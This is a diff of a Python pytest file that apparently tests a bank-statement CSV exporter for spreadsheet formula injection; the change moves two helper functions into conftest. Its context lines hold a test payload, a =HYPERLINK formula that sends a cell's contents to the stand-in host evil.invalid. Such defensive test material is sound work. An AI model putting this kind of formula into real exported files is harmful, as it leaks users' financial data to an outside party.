@@ -22,7 +22,7 @@ from html import unescape
 import pytest
 
 import expected as E
-from conftest import ROOT
+from conftest import ROOT, account_dir, read_csv
 
 RULES = ROOT / "packaging" / "hledger" / "monzohfs.rules"
 HYPERLINK = '=HYPERLINK("http://evil.invalid/?"&B2,"refund")'
@@ -37,14 +37,6 @@ SENT = {
     "+44 20 7946 0000": True, "-5% off": True,  # a spreadsheet may compute or reject them
     "-": False, "+": False, "'=1+1": False, "Rent flat 4B": False, "a=b": False,
 }
-
-
-def account_dir(mnt, acc):
-    return mnt / "accounts" / acc
-
-
-def read_csv(path):
-    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
 
 
 def by_id(rows):
